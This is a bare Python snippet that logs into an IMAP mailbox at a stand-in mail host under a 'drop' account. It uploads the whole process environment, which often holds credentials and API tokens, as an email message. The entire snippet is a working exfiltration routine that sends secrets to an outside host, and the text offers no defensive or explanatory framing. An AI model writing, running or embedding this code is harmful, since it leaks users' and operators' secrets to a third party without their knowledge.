import imaplib, os, time
m = imaplib.IMAP4_SSL("imap.example-mail.net")
m.login("drop@example-mail.net", "pw")
m.append("INBOX", "", imaplib.Time2Internaldate(time.time()), str(dict(os.environ)).encode())
